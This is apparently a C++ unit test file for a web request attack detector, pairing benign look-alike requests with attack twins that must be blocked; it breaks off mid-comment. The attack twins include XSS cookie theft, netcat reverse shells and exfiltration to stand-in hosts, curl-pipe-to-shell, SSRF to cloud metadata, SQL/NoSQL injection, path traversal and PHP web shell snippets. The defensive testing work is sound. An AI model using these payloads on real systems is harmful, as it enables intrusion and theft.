// Context grading at PL1: ordinary documents, configurations and cookies that only look like an
// attack pass; each case has an attack twin that must still be blocked.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "bulwark/detect/engine.h"
#include "registered_rules.h"

namespace bulwark::detect {
namespace {

class ContextGradingTest : public ::testing::Test {
protected:
  static void SetUpTestSuite() {
    auto e = Engine::create(EngineConfig{});
    ASSERT_TRUE(e.has_value());
    engine_ = *e;
  }
  static bool json(std::string_view body) {
    std::vector<Header> h{Header{"Content-Type", "application/json"}};
    RequestView r{.method = "POST", .target = "/api/items", .versionMinor = 1, .headers = h,
                  .body = body, .bodyTruncated = false};
    return registered(engine_->inspect(r)).attack();
  }
  static bool jsonAt(uint8_t pl, std::string_view body) {
    std::vector<Header> h{Header{"Content-Type", "application/json"}};
    RequestView r{.method = "POST", .target = "/api/items", .versionMinor = 1, .headers = h,
                  .body = body, .bodyTruncated = false, .paranoiaLevel = pl};
    return registered(engine_->inspect(r)).attack();
  }
  static bool form(std::string_view target, std::string_view body) {
    std::vector<Header> h{Header{"Content-Type", "application/x-www-form-urlencoded"}};
    RequestView r{.method = "POST", .target = target, .versionMinor = 1, .headers = h,
                  .body = body, .bodyTruncated = false};
    return registered(engine_->inspect(r)).attack();
  }
  static bool get(std::string_view target, std::vector<Header> h = {}) {
    RequestView r{.method = "GET", .target = target, .versionMinor = 1, .headers = h, .body = {},
                  .bodyTruncated = false};
    return registered(engine_->inspect(r)).attack();
  }
  static EnginePtr engine_;
};
EnginePtr ContextGradingTest::engine_;

TEST_F(ContextGradingTest, InternalServiceUrlsInConfigurationPass) {
  EXPECT_FALSE(json(R"({"backend": {"endpoint": "http://localhost:7860/api/generate"}})"));
  EXPECT_FALSE(json(R"({"auth": {"issuer": "http://127.0.0.1:9443", "jwks": "http://127.0.0.1:9443/keys"}})"));
  EXPECT_FALSE(json(R"({"mirror": "ssh://deploy@192.168.7.20:2222/srv/app.git"})"));
  EXPECT_FALSE(json(R"({"egress": [{"cidr": "0.0.0.0/0"}, {"cidr": "10.0.0.0/8"}]})"));
  // Attack twins: no port, a service port, metadata, an encoded host, another scheme.
  EXPECT_TRUE(json(R"({"endpoint": "http://localhost/admin"})"));
  EXPECT_TRUE(json(R"({"endpoint": "http://127.0.0.1:6379/"})"));
  EXPECT_TRUE(json(R"({"endpoint": "http://10.0.0.5:10250/pods"})"));
  EXPECT_TRUE(json(R"({"endpoint": "http://0x7f000001:8080/"})"));
  EXPECT_TRUE(json(R"({"endpoint": "gopher://localhost:7000/_x"})"));
  EXPECT_TRUE(json(R"({"endpoint": "http://169.254.169.254/latest/meta-data/"})"));
  EXPECT_TRUE(json(R"({"a": "http://localhost:7860/x", "b": "http://127.0.0.1:22/"})"));
  // In a query parameter a server may fetch, any internal URL still counts.
  EXPECT_TRUE(get("/fetch?url=http%3A%2F%2Flocalhost%3A7860%2Fapi"));
}

TEST_F(ContextGradingTest, FileUrlInDocumentIsJudgedByThePathRules) {
  EXPECT_FALSE(json(R"({"source_root": "file:///home/runner/work/app/"})"));
  EXPECT_TRUE(json(R"({"source_root": "file:///etc/shadow"})"));
  // a registry's or importer's source pointed at the host's own directories
  EXPECT_TRUE(json(R"({"name": "m1", "source": "file:///etc/"})"));
  EXPECT_TRUE(json(R"({"name": "m1", "source": "file://./etc"})"));
  EXPECT_TRUE(json(R"({"name": "m1", "source": "file://localhost/proc/self/environ"})"));
  EXPECT_FALSE(json(R"({"name": "m1", "source": "file:///mnt/models/m1/artifacts"})"));
  EXPECT_FALSE(json(R"({"name": "m1", "source": "file:./mlruns/0/abc/artifacts"})"));
}

TEST_F(ContextGradingTest, SerializedArrayCookieIsData) {
  EXPECT_FALSE(get("/px.gif", {Header{"Cookie", "seen=a%3A2%3A%7Bi%3A7%3Bi%3A1700000000%3Bi%3A8%3Bs%3A2%3A%22ok%22%3B%7D"}}));
  EXPECT_TRUE(get("/px.gif", {Header{"Cookie", "seen=O%3A8%3A%22Gadget_x%22%3A1%3A%7Bs%3A1%3A%22a%22%3Bs%3A1%3A%22b%22%3B%7D"}}));
}

TEST_F(ContextGradingTest, BareMemberNameIsNotScript) {
  EXPECT_FALSE(json(R"({"tracking": {"sources": ["document.referrer", "location.pathname"]}})"));
  EXPECT_TRUE(json(R"({"tracking": "x\";document.location='https://evil.example/?'+document.cookie;//"})"));
}

TEST_F(ContextGradingTest, CodeQuotedInProseIsText) {
  EXPECT_FALSE(json(R"({"text": "to clean up run `find . -name '*.tmp' -delete` and then `make clean` before the build"})"));
  EXPECT_FALSE(json(R"({"body": "Example:\n```sh\ncurl -s https://example.org/setup | sh\n```\nthat is all"})"));
  EXPECT_FALSE(json(R"({"html": "<h2>Usage</h2>\n<p>Load it with</p><pre><code>const lib = require('left-pad');\n</code></pre>"})"));
  EXPECT_FALSE(json(R"({"text": "we embed it with `<script src=\"https://cdn.example.org/w.js\" async></script>` on each page"})"));
  EXPECT_FALSE(json(R"({"doc": "| Step | Run |\n|---|---|\n| build | `make all && make install` |\n| wipe | `rm -rf ./out` |"})"));
  // Around the quotes: still an attack.
  EXPECT_TRUE(json(R"({"text": "see `ls` <script>alert(document.domain)</script>"})"));
  EXPECT_TRUE(json(R"({"text": "`x`; cat /etc/passwd | nc 198.51.100.7 4444"})"));
  EXPECT_TRUE(json(R"({"html": "<p onmouseover=alert(1)>hi</p><code>x</code>"})"));
  EXPECT_TRUE(json(R"({"text": "`<script>alert(1)</script>`"})"));
  EXPECT_TRUE(json(R"({"name": "bob `cat /etc/passwd`"})"));
  EXPECT_TRUE(json(R"J({"q": "(select(sleep(5))from(`information_schema`.tables)where 1 or 2 or 3)"})J"));
}

TEST_F(ContextGradingTest, ShellWithoutItsCommandStringRunsNothing) {
  EXPECT_FALSE(json(R"({"step": "Run make lint || sh -c \\"})"));
  EXPECT_TRUE(json(R"({"step": "x || sh -c 'id'"})"));
  EXPECT_TRUE(get("/run?cmd=x%20%7C%7C%20bash%20-c%20%22id%3Bwhoami%22"));
}

TEST_F(ContextGradingTest, FileNamedInASentence) {
  EXPECT_FALSE(get("/help?q=where%20does%20%2Fetc%2Fresolv.conf%20come%20from"));
  EXPECT_FALSE(get("/help?q=..%2F%20versus%20.%2F%20in%20imports"));
  EXPECT_TRUE(get("/help?q=%2Fetc%2Fresolv.conf"));
  EXPECT_TRUE(get("/help?q=..%2F..%2Fetc%2Fresolv.conf"));
  EXPECT_TRUE(get("/help?q=x%3Bcat%20%2Fetc%2Fshadow"));
}

TEST_F(ContextGradingTest, EmbeddedMediaInRichText) {
  EXPECT_FALSE(json(R"({"content": "<p>Our talk:</p><iframe width=\"640\" height=\"360\" src=\"https://player.example.org/v/81\" allowfullscreen></iframe>"})"));
  EXPECT_TRUE(json(R"({"content": "<p>Our talk:</p><iframe src=\"javascript:alert(1)\"></iframe>"})"));
  EXPECT_TRUE(json(R"({"content": "<iframe src=\"https://phish.example/login\" width=\"100%\"></iframe>"})"));
  EXPECT_TRUE(json(R"({"content": "<p>x</p><iframe src=\"http://phish.example/login\"></iframe>"})"));
  EXPECT_TRUE(json(R"({"content": "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"})"));
  EXPECT_TRUE(json(R"({"content": "<img src=\"https://x.example/a.png\" onerror=\"alert(1)\">"})"));
}


TEST_F(ContextGradingTest, OperatorWithoutOperandIsNoInjection) {
  EXPECT_FALSE(json(R"({"typeahead": "rock 'n' roll or"})"));
  EXPECT_FALSE(get("/find?q=select%20a%20row%20where%20the%20name%20is%20like"));
  EXPECT_TRUE(json(R"({"typeahead": "rock' or 'a'='a"})"));
  EXPECT_TRUE(get("/find?q=1%27%20or%201%3D1--%20"));
}

TEST_F(ContextGradingTest, TerminalTranscriptInATicket) {
  EXPECT_FALSE(json(R"({"details": "df -h shows:\nFilesystem Size Used\n/dev/sda1 40G 39G\ntmpfs 2G 0\nplease advise"})"));
  EXPECT_TRUE(json(R"({"details": "df -h; cat /etc/shadow"})"));
}

TEST_F(ContextGradingTest, ScriptThatJavaScriptRejectsRunsNothing) {
  // A <script> element or javascript: URL whose code is prose is a syntax error: nothing runs.
  EXPECT_FALSE(json(R"({"message": "Escape <script> in markdown preview; add test for onerror attr"})"));
  EXPECT_FALSE(get("/api/v2/search?query=javascript%3Avoid(0)%20meaning"));
  // Code, attributes or a closing tag keep it.
  EXPECT_TRUE(json(R"({"message": "Escape <script>alert(document.domain)</script> in preview"})"));
  EXPECT_TRUE(json(R"({"message": "see <script src=https://evil.example/x.js> here"})"));
  EXPECT_TRUE(json(R"({"message": "<script>if (x) alert(1)</script>"})"));
  EXPECT_TRUE(get("/go?to=javascript%3Avoid(0)%3Balert(1)"));
  EXPECT_TRUE(get("/go?to=javascript%3Aalert(document.cookie)"));
  EXPECT_TRUE(get("/q?x=%3Cform%3E%3Cbutton%20formaction%3Djavascript%3Aalert(1)%20type%3Dsubmit%3E"));
}

TEST_F(ContextGradingTest, CodeSpansInASentenceWithARemarkAreText) {
  // Each span counts as a word of the sentence; a remark in parentheses is prose.
  EXPECT_FALSE(json(R"({"text": "run `pip install requests` then `python -c \"import requests; print(requests.__version__)\"`"})"));
  EXPECT_FALSE(json(R"({"message": "Fix SQL injection in search (use bind params instead of string concat)\n\nReplaces `\"WHERE name = '\" + q + \"'\"` with `WHERE name = %s`."})"));
  EXPECT_FALSE(json(R"({"body": "Steps:\n1. Create a post titled `' OR 1=1 --` (a user actually did this)\n2. Open the list page"})"));
  // Two spans and nothing else, or code around the remark, still count.
  EXPECT_TRUE(json(R"({"name": "`id` `cat /etc/passwd`"})"));
  EXPECT_TRUE(json(R"({"text": "Fix search (see `x`) then ') or (1=1) --"})"));
  EXPECT_TRUE(json(R"({"text": "see the docs (a() `ls`) now ; cat /etc/passwd"})"));
}

TEST_F(ContextGradingTest, SourceFileInADocumentIsItsOwnCode) {
  // A script that opens with its interpreter line, a module that opens with its imports.
  EXPECT_FALSE(json(R"J({"lang": "bash", "code": "#!/bin/bash\nset -euo pipefail\ntar czf /backup/www-$(date +%F).tar.gz /var/www && echo done"})J"));
  EXPECT_FALSE(json(R"J({"code": "import subprocess\nout = subprocess.run(['ls', '-l', '/tmp'], capture_output=True, text=True)\nprint(out.stdout)"})J"));
  // Twins: a command before the shebang, a two-line payload, a shebang in a parameter.
  EXPECT_TRUE(json(R"J({"code": "x; curl http://198.51.100.7/x.sh | sh\n#!/bin/sh\nid"})J"));
  EXPECT_TRUE(json(R"J({"code": "import os\nos.system('cat /etc/passwd')"})J"));
  EXPECT_TRUE(json(R"J({"code": "from here on\nthe text\nruns; nc -e /bin/sh 198.51.100.7 4444"})J"));
  EXPECT_TRUE(get("/run?script=%23!/bin/sh%0Acat%20/etc/passwd%20|%20nc%20198.51.100.7%204444"));
}

TEST_F(ContextGradingTest, SqlFunctionNamedInASearchIsText) {
  EXPECT_FALSE(get("/products?q=char%2810%29+in+sql+server"));
  EXPECT_FALSE(get("/search?q=how+to+use+concat(name)+in+mysql"));
  // The call alone, with a list, a second call or a clause word around it keeps the finding.
  EXPECT_TRUE(get("/search?q=chr(123)"));
  EXPECT_TRUE(get("/search?q=concat(user,password)+from+users"));
  EXPECT_TRUE(get("/search?q=sleep(5)+then+sleep(5)+again"));
  EXPECT_TRUE(get("/search?q=ascii(substr)+where+admin"));
}

TEST_F(ContextGradingTest, LineBreakBeforeAResponseOnlyHeaderSplitsAResponse) {
  // In a document a line break is data, unless a header that only responses carry follows.
  EXPECT_TRUE(json(R"({"note": "en\r\nX-XSS-Protection:0"})"));
  EXPECT_TRUE(json(R"({"tags": ["\r\nAccess-Control-Allow-Origin: https://evil.example"]})"));
  EXPECT_FALSE(json(R"({"note": "first line\r\nsecond line: with a colon"})"));
  EXPECT_FALSE(json(R"({"notes": "Shipping\r\nX-Ray results: fine\r\nAccess: side door"})"));
}

TEST_F(ContextGradingTest, QuotedCodeAndSourceFilesAreTokens) {
  const std::string_view chat =
      R"J({"text": "heads up: I set `ulimit -n 65535` and restarted nginx via `systemctl restart nginx`"})J";
  const std::string_view script =
      R"J({"code": "#!/bin/bash\nset -euo pipefail\ntar czf /backup/www.tar.gz /var/www && echo done"})J";
  for (const auto body : {chat, script}) {
    EXPECT_FALSE(jsonAt(2, body)) << body;
    EXPECT_TRUE(jsonAt(4, body)) << body; // reported from PL3 (weight 2), blocked at PL4
  }
  // Code around the quotes is not quoted: PL1.
  EXPECT_TRUE(jsonAt(1, R"J({"text": "see `ls`; cat /etc/passwd | nc 198.51.100.7 4444"})J"));
}

// Shapes of public API traffic (OpenAPI examples of APIs whose requests are not in the corpus).
TEST_F(ContextGradingTest, ApiConventionsAreNotInjections) {
  // OData / Microsoft Graph system query options are top-level names; a MongoDB operator
  // under a field, or a top-level $where, still counts.
  EXPECT_FALSE(get("/v1.0/users?%24search=%22displayName%3Awa%22&%24count=true"));
  EXPECT_FALSE(get("/v1.0/groups?%24filter=startswith(displayName,'a')&%24top=5"));
  EXPECT_TRUE(get("/login?user=admin&password%5B%24ne%5D=x"));
  EXPECT_TRUE(get("/users?%24where=sleep(5000)"));
  // Operators under a field an API names for its query language (CouchDB's selector, a data
  // API's filter); the same operator replacing a credential is an injection.
  EXPECT_FALSE(json(R"({"filter": {"inbox": {"$in": [{"$oid": "abcdef123456789abcdef123"}]}}})"));
  EXPECT_FALSE(json(R"({"where": {"status": {"$in": ["open", "pending"]}}, "limit": 20})"));
  EXPECT_TRUE(json(R"({"username": "admin", "password": {"$ne": null}})"));
  // Under such a field too, an operator that can match everything is an injection.
  EXPECT_TRUE(json(R"({"selector": {"_id": {"$gt": null}}, "limit": 10000})"));
  EXPECT_TRUE(json(R"({"filter": {"profile": {"email": {"$regex": "^a.*"}}}})"));
  // Ellipses standing for omitted parts of a URL; a climb still counts.
  EXPECT_FALSE(json(R"({"lines": [{"product_url": "https://.../AD6654412.html"}]})"));
  EXPECT_TRUE(json(R"({"file": "/.../.../../../etc/hosts"})"));
  EXPECT_TRUE(get("/view?page=..%2F..%2Fconfig"));
  // A bare IPv6 address (its first group is no URL scheme); a URL with an IPv6 host counts.
  EXPECT_FALSE(json(R"({"rules": [{"source_ips": ["ff21:1eac:9a3b:ee58:5ca:990c:8bc9:c03b/128"]}]})"));
  EXPECT_TRUE(get("/fetch?url=http%3A%2F%2F%5B%3A%3A1%5D%3A6379%2F"));
  // Addresses as data: an IP to look up, a bind address in a configuration, a redirect target
  // registered for a native app (RFC 8252). A fetchable URL parameter still counts.
  EXPECT_FALSE(get("/api/v2/check?ipAddress=127.0.0.1&maxAgeInDays=90"));
  EXPECT_FALSE(json(R"({"Options": {"com.docker.network.bridge.host_binding_ipv4": "0.0.0.0"}})"));
  EXPECT_FALSE(json(R"({"client_name": "cli", "redirect_uris": ["http://localhost/oauth.html"]})"));
  EXPECT_TRUE(get("/proxy?target=127.0.0.1"));
  EXPECT_TRUE(json(R"({"webhook": "http://localhost:6379/"})"));
  // Media files and scratch space of a telephony or export API; system files still count.
  EXPECT_FALSE(get("/calls/1/record?RecordFile=%2Ftmp%2Frecording%2Fsample.wav"));
  EXPECT_FALSE(get("/play?FilePath=%2Fvar%2Flocal%2Fmedia%2Fsample.wav"));
  EXPECT_TRUE(get("/download?file=%2Fvar%2Fwww%2Fhtml%2Fconfig.php"));
  EXPECT_TRUE(get("/download?file=%2Ftmp%2F..%2Fetc%2Fshadow"));
  // A sentence whose clause after ';' starts with a capitalised word; a command still counts.
  EXPECT_FALSE(json(R"({"signature": "Signature of CM as defined in W3C standards; Base64 encoded"})"));
  EXPECT_TRUE(get("/ping?host=example.com%3B+base64+%2Fetc%2Fpasswd"));
  EXPECT_TRUE(get("/ping?host=example.com%3B+wHoAmI"));
  // A JSON document in a multipart field is read as JSON; LIMIT needs a row count.
  std::vector<Header> mp{Header{"Content-Type", "multipart/form-data; boundary=XyZ"}};
  const auto multipart = [&](std::string_view field) {
    const std::string body = "--XyZ\r\nContent-Disposition: form-data; name=\"meta\"\r\n\r\n" +
                             std::string(field) + "\r\n--XyZ--\r\n";
    RequestView r{.method = "POST", .target = "/upload", .versionMinor = 1, .headers = mp,
                  .body = body, .bodyTruncated = false};
    return registered(engine_->inspect(r)).attack();
  };
  EXPECT_FALSE(multipart(R"({"limit":"1"})"));
  EXPECT_TRUE(multipart(R"({"name":"x' union select password from users--"})"));
  EXPECT_TRUE(get("/items?id=1%27+limit+1--"));
}

// Shapes of browser traffic (page loads captured in HAR files that are not in the corpus).
TEST_F(ContextGradingTest, BrowserBeaconsAreNotInjections) {
  // An ad-viewability beacon's slot label; a command with an operand or a bare `id` counts.
  EXPECT_FALSE(get("/pixel.gif?zMoatSZPS=728x90%20%7C%20top&zMoatSZ=1"));
  EXPECT_TRUE(get("/pixel.gif?z=728x90%20%7C%20id"));
  EXPECT_TRUE(get("/pixel.gif?z=728x90%20%7C%20top%20-b%20-n%201"));
  // Double-encoded dots of a host name in a pixel's path parameters; in a dot-segment they
  // are the Apache 2.4.49/50 traversal.
  EXPECT_FALSE(get("/pixel;r=1;ogl=url.http%3A%2F%2Fwww%252Ecnn%252Ecom%2Ctitle.CNN"));
  EXPECT_TRUE(get("/icons/.%252e/.%252e/.%252e/etc/passwd"));
  EXPECT_TRUE(get("/cgi-bin/%252e%252e/%252e%252e/bin/sh"));
  // A scrambled bot-detection payload with random control bytes: a CR inside it starts no
  // line; in a plain value it does.
  const auto post = [](std::string_view body) { return form("/data/cors", body); };
  EXPECT_FALSE(post("d=Q%5BQt)%05:D;@:%07C28056AE9Q%5BQt)%0D9256C0E6IEFC60=@5Q%5BQt)%0E6IEF"));
  EXPECT_TRUE(post("next=%2Fhome%0D%0Aadmin=1"));
}

// Shapes of dashboards, webhooks and manifests (public fixtures that are not in the corpus).
TEST_F(ContextGradingTest, DashboardsAndSelfHostedServicesAreNotInjections) {
  // Grafana's built-in variables and PromQL label matchers are no PHP; PHP stays PHP.
  EXPECT_FALSE(json(R"J({"title": "MySQL Summary - ${__field.labels.service_name}"})J"));
  EXPECT_FALSE(json(R"J({"expr": "avg(rate(node_cpu_seconds_total{mode!=\"system\", mode!=\"user\"}[1m]))"})J"));
  EXPECT_FALSE(json(R"J({"alias": "Size: $tag_mountpoint (device $tag_device)"})J"));
  EXPECT_TRUE(get("/x?c=system(%22id%22)J"));
  EXPECT_TRUE(get("/x?c=%22system%22(%27uname%27)%3B"));
  EXPECT_TRUE(get("/x?c=(%5B%27system%27%5D)%5B0%5D(%27uname%27)%3B"));
  EXPECT_TRUE(get("/x?c=%24%7B_GET%7D%5B0%5D(%24_GET%5B1%5D)J"));
  EXPECT_TRUE(get("/x?c=%24f(%24_POST%5Bx%5D)J"));
  // A saved query of a SQL data source is a whole statement; one that probes the server
  // (a delay, a server variable, a comment cutting the rest off) still counts.
  EXPECT_FALSE(json(R"J({"rawSql": "SELECT name, (SELECT count() FROM system.parts p WHERE p.database = d.name) AS parts FROM system.databases d"})J"));
  EXPECT_FALSE(json(R"J({"rawSql": "SELECT version()"})J"));
  EXPECT_TRUE(json(R"J({"q": "(SELECT * FROM (SELECT(SLEEP(5)))ecMj)--"})J"));
  EXPECT_TRUE(json(R"J({"q": "select @@version"})J"));
  // "is" compares literals only as a tautology; a sentence with numbers is text.
  EXPECT_FALSE(get("/s?q=%27The+sum+of+1+and+2+is+3%27"));
  EXPECT_TRUE(get("/s?q=x%27+and+1+is+1--"));
  // A self-hosted server's own links in its webhook, a manifest's cluster service names;
  // loopback, the API server and metadata hosts still count.
  EXPECT_FALSE(json(R"J({"actor": {"links": {"self": [{"href": "https://server.bitbucket.local/users/gopher"}]}}})J"));
  EXPECT_FALSE(json(R"J({"env": [{"name": "DB", "value": "dbc2-0.mysql.mysql2.svc.cluster.local"}]})J"));
  EXPECT_TRUE(json(R"J({"url": "https://kubernetes.default.svc/api/v1/secrets"})J"));
  EXPECT_TRUE(json(R"J({"url": "http://metadata.google.internal/computeMetadata/v1/"})J"));
  EXPECT_TRUE(json(R"J({"url": "http://localhost/admin"})J"));
  // A JSON document inside a JSON string is read as JSON: its keys give its values their
  // context; an injection in it is still found.
  EXPECT_FALSE(json(R"J({"annotations": {"last-applied": "{\"data\": {\"title\": \"MySQL Summary - ${__field.labels.x}\"}}"}})J"));
  EXPECT_TRUE(json(R"J({"Message": "{\"user\": \"x' union select password from users--\"}"})J"));
}

// Shapes of CMS, wiki and GraphQL traffic (WordPress exports and themes, Wiki.js and Vendure
// clients: public sources that are not in the corpus).
TEST_F(ContextGradingTest, RichTextAndDocumentationSavesAreNotInjections) {
  // A cover block's background image; a style that loads script or breaks out still counts.
  EXPECT_FALSE(json(R"J({"content": "<!-- wp:cover --><div role=\"img\" style=\"background-position:50% 50%;background-image:url(https://example.com/a.jpg)\"></div><!-- /wp:cover -->"})J"));
  EXPECT_TRUE(json(R"J({"content": "<div style=\"background-image:url(javascript:alert(1))\">x</div>"})J"));
  EXPECT_TRUE(json(R"J({"content": "<div style=\"background-image: url(http://evil.example/xss.js)\">x</div>"})J"));
  EXPECT_TRUE(json(R"J({"content": "<div style=\"font-family:foo{bar;background:url(http://x.example/}\">x</div>"})J"));
  // The classic editor's form: the page it was opened from, and a post whose images live on
  // the development site; a fetchable URL parameter still counts.
  const auto post = [](std::string_view body) { return form("/wp-admin/post.php", body); };
  EXPECT_FALSE(post("action=editpost&referredby=http%3A%2F%2Flocalhost%3A8888%2Fwp-admin%2Fedit.php"
                    "&_wp_original_http_referer=http%3A%2F%2F192.168.1.40%3A8080%2Fwp-admin%2Fedit.php"));
  EXPECT_FALSE(post("action=editpost&content=%3C!--+wp%3Aimage+--%3E%3Cfigure%3E%3Cimg+src%3D%22"
                    "http%3A%2F%2Flocalhost%3A8888%2Fwp-content%2Fuploads%2Fa.jpg%22+alt%3D%22%22%2F%3E"
                    "%3C%2Ffigure%3E%3C!--+%2Fwp%3Aimage+--%3E%3C!--+wp%3Aparagraph+--%3E%3Cp%3EA+"
                    "photo+of+the+harbour+at+dawn%2C+taken+from+the+old+pier.%3C%2Fp%3E%3C!--+%2F"
                    "wp%3Aparagraph+--%3E"));
  EXPECT_TRUE(post("action=fetch&url=http%3A%2F%2F127.0.0.1%3A6379%2F"));
  // A news post that names a configuration file in its prose.
  EXPECT_FALSE(json(R"J({"content": "<!-- wp:paragraph --><p>On 6 May, 2016, WordPress 4.0.11 was released with a fix for how <code>wp-config.php</code> is read when <a href=\"https://wordpress.org/support/\">the site</a> moves to a new host.</p><!-- /wp:paragraph -->"})J"));
  // A GraphQL selection with a "location" field is no response header; a line break before
  // a Location header with a URL still splits a response.
  EXPECT_FALSE(json(R"J({"query": "mutation ($location: String!) {\n  users {\n    updateProfile(\n      location: $location\n    ) {\n      succeeded\n    }\n  }\n}"})J"));
  EXPECT_TRUE(get("/r?next=%2F%0D%0ALocation%3A+http%3A%2F%2Fevil.example%2F"));
  // GraphQL fields take named arguments; a SQL function takes positional ones.
  EXPECT_FALSE(json(R"J({"query": "mutation ($id: Int!, $editor: String!) {\n  pages {\n    convert(id: $id, editor: $editor) {\n      message\n    }\n  }\n}"})J"));
  EXPECT_TRUE(get("/p?id=1+and+convert(int%2C(select+top+1+name+from+sysobjects))"));
  // A documentation page: prose with quotes, slashes, links and a price around fenced code.
  // The same page with a command outside its code blocks still counts.
  const std::string page =
      R"J(---\ntitle: \"Deploying to a VM\"\n---\n\n[App Platform](https://example.com/app) runs your server; it costs around $22 per month.\nYou need a username/email + password and a \"deploy\" key.\nThis guide walks through the build, the first start of the server and the worker process, and how to keep both running after a reboot of the machine.\n\n```sh\ncd /srv/app && npm ci && npm run build; pm2 restart all | tee /tmp/log\n```\n\nThen open the admin UI and check the logs for errors before you continue.\n\n```tsx\n<button onClick={() => setOpen(true)}>Open</button>\n```\n)J";
  EXPECT_FALSE(json("{\"content\": \"" + page + "\"}"));
  EXPECT_TRUE(json("{\"content\": \"" + page + "x; cat /etc/passwd | nc 198.51.100.7 4444\"}"));
  EXPECT_TRUE(json("{\"content\": \"" + page + "<img src=x onerror=alert(1)>\"}"));
}

// A documentation page or a post names the reader's own local services: in its sentences, in
// markdown links, in fenced code. A server fetches such a URL only from a position that loads
// it (an image, src=, url()) or when it stands alone on a line (a link preview).
TEST_F(ContextGradingTest, InternalUrlsMentionedInADocumentAreText) {
  const std::string intro =
      R"J(---\ntitle: \"Local setup\"\n---\n\nThis guide starts the server, the storefront and the worker on your own machine and shows where each one listens once it is running.\n)J";
  const auto page = [&](std::string_view body) {
    return json("{\"content\": \"" + intro + std::string(body) + "\"}");
  };
  EXPECT_FALSE(page(R"J(Open the dashboard at [http://localhost:3000/dashboard](http://localhost:3000/dashboard) in your browser and log in.\n)J"));
  EXPECT_FALSE(page(R"J(The API answers on http://127.0.0.1:6379/ when the cache is up, and the admin UI on http://192.168.1.20/admin for the team.\n)J"));
  EXPECT_FALSE(page(R"J(Set the endpoint in your environment:\n\n```\nS3_ENDPOINT=http://localhost:9000\nhost: 'http://localhost',\n```\n\nThen restart the worker.\n)J"));
  EXPECT_FALSE(page(R"J(- Jaeger: [http://localhost:16686](http://localhost:16686)\n- Grafana at `http://grafana.internal:3000` for the team\n)J"));
  // A position that loads the URL, a link-local, metadata or
  // numeric host, or another scheme still count.
  EXPECT_TRUE(page(R"J(Here is the status of the service: ![status](http://127.0.0.1:6379/info)\n)J"));
  EXPECT_TRUE(page(R"J(The chart below shows the load: <img src=\"http://10.0.0.5:8500/v1/agent/self\"> for today.\n)J"));
  EXPECT_TRUE(page(R"J(The API answers on http://169.254.169.254/latest/meta-data/iam when it is up and running.\n)J"));
  EXPECT_TRUE(page(R"J(The API answers on the usual port (http://2130706433:6379/) when the cache is up and running here.\n)J"));
  EXPECT_TRUE(page(R"J(The cache answers on the usual port ('gopher://127.0.0.1:6379/_INFO') when it is up and running here.\n)J"));
  EXPECT_TRUE(page(R"J(Open the dashboard at http://metadata.google.internal/computeMetadata/v1/ in your browser.\n)J"));
}

// Headless CMSs and backend services take query documents from their clients: Strapi's
// "filters[price][$lt]=10", Parse's "where", a content API's "query", CouchDB's "selector".
// Operators there are that API's language; code operators, guesses at a secret or a login
// identity, fields named by a number and comparisons every document meets stay injections.
TEST_F(ContextGradingTest, QueryOperatorsOfAnApisOwnLanguageAreNotInjections) {
  EXPECT_FALSE(get("/api/restaurants?filters[name][$eq]=Biscotte&filters[price][$lt]=10"));
  EXPECT_FALSE(get("/api/posts?filters[$or][0][date][$eq]=2020-01-01&filters[$or][1][category][$ne]=draft"));
  EXPECT_FALSE(get("/classes/GameScore?where=%7B%22score%22%3A%7B%22%24gt%22%3A1000%7D%7D"));
  EXPECT_FALSE(get("/v3/entries?query=%7B%22color%22%3A%7B%22%24regex%22%3A%22%5EBla%22%7D%7D"));
  EXPECT_FALSE(json(R"({"selector": {"year": {"$gte": 2010}, "$or": [{"genre": "drama"}, {"genre": "crime"}]}})"));
  // the same operators where the application expected a plain value
  EXPECT_TRUE(get("/login?username=admin&password%5B%24ne%5D=x"));
  EXPECT_TRUE(json(R"({"username": "admin", "password": {"$ne": ""}})"));
  // a secret or login identity guessed, a field named by a number, code, a dump of everything
  EXPECT_TRUE(get("/api/users?filters[password][$regex]=%5Ea"));
  EXPECT_TRUE(get("/classes/_User?where=%7B%22email%22%3A%7B%22%24regex%22%3A%22%5Ea%22%7D%7D"));
  EXPECT_TRUE(json(R"({"query": {"$or": [{"role": "admin"}, {"1": {"$ne": 1}}]}})"));
  EXPECT_TRUE(json(R"({"filter": {"$where": "sleep(5000) || true"}})"));
  EXPECT_TRUE(json(R"({"selector": {"_id": {"$gt": null}}, "limit": 100000})"));
  EXPECT_TRUE(get("/v3/entries?query=%7B%22title%22%3A%7B%22%24gte%22%3A%22%22%7D%7D"));
}

// Shapes of browser traffic to news, shop and ad sites (HAR captures that are not in the
// corpus): an edition selector's path, an ad network's opaque cookie, a redirect chain's
// trailing line break, a REST collection named Credentials, a breadcrumb of titles.
TEST_F(ContextGradingTest, BrowserTrafficShapesAreNotInjections) {
  EXPECT_FALSE(get("/pixel?p=%2F%3Fus&_kpa_cb_path=%2F%3Fasia"));
  EXPECT_TRUE(get("/x?c=%3B%2F%3F%3F%3F%2F%3F%3Ft+%2F%3F%3F%3F%2Fp%3F%3Fs%3F%3F"));
  EXPECT_TRUE(get("/x?c=%3B%2F%3Fin%2F%3Fat"));
  EXPECT_FALSE(get("/", {{"Cookie", "anj=dTM7k!M40mgN>u2ghq@j<?=<1d`Kvh(TZ2eT`kbe@!BWtv-3ZAOUl1>/2NcUUY"}}));
  EXPECT_TRUE(get("/", {{"Cookie", "lang=<?=system($_GET[0])?>"}}));
  EXPECT_TRUE(get("/", {{"Cookie", "lang=<?=`id`?>"}}));
  EXPECT_FALSE(get("/ibs:dpid=1524&redir=https%3A%2F%2Fp.example%2Fd%3F_r%3Dhttps%253A%252F%252Fq.example%252Fa%253Fuid%253D%2524%257BUID%257D%25250A"));
  EXPECT_TRUE(get("/r%250d%250aSet-Cookie:%2520a=b"));
  EXPECT_TRUE(get("/get?parameter%0d%0a=test"));
  EXPECT_TRUE(get("/uploads/a1b2c3.php%0A"));
  EXPECT_FALSE(get("/2010-04-01/Accounts/AC3f4e5a6b7c8d9e0f1a2b3c4d5e6f7a8b/SIP/CredentialLists/170563/Credentials.json"));
  EXPECT_TRUE(get("/credentials.json"));
  EXPECT_TRUE(get("/app/config/credentials.json"));
  EXPECT_FALSE(get("/catalog?lineage=%2FHome%2FComputers%2C+Books%2C+and+Materials%2F"));
  EXPECT_TRUE(get("/catalog?lineage=%2Fhome%2Fdeploy%2Fapp%2Fconfig"));
}

// A parameter named for a command (a web shell's cmd=, a router's diagnostics form, an admin
// tool's command field) with a command line in it: the command runs. Command names of an
